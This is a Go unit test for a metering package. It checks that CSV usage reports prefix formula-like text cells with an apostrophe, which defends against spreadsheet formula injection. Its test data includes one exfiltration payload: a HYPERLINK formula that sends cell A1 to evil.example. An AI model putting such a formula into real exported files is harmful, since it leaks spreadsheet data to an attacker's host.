package metering

import (
	"bytes"
	"encoding/csv"
	"testing"

	"github.com/stretchr/testify/require"
)

// TestCSVTextIsNeverAFormula: a text cell that a spreadsheet would run as
// a formula (a model name reported by an agent, a user or tenant name) is
// written with a leading apostrophe; plain text and the numbers are as
// they were.
func TestCSVTextIsNeverAFormula(t *testing.T) {
	line := ReportLine{Tenant: "+acme", Project: "-p", User: "@bob", Vendor: "nvidia",
		Model: `=HYPERLINK("http://evil.example/?"&A1,"H100")`, QoS: "bronze", Cost: 1.5}
	r := &UsageReport{Period: "month", From: "2026-12-01", To: "2027-01-01", Currency: "CNY", Total: line,
		ByVendor: []ReportLine{line}}
	var b bytes.Buffer
	require.NoError(t, r.WriteCSV(&b))
	rows, err := csv.NewReader(&b).ReadAll()
	require.NoError(t, err)
	require.Len(t, rows, 3, "header, total, by_vendor")
	head := map[string]int{}
	for i, h := range rows[0] {
		head[h] = i
	}
	for _, row := range rows[1:] {
		require.Equal(t, `'=HYPERLINK("http://evil.example/?"&A1,"H100")`, row[head["model"]])
		require.Equal(t, "'+acme", row[head["tenant"]])
		require.Equal(t, "'-p", row[head["project"]])
		require.Equal(t, "'@bob", row[head["user"]])
		require.Equal(t, "nvidia", row[head["vendor"]])
		require.Equal(t, "bronze", row[head["qos"]])
		require.Equal(t, "1.500000", row[head["cost"]])
	}
}
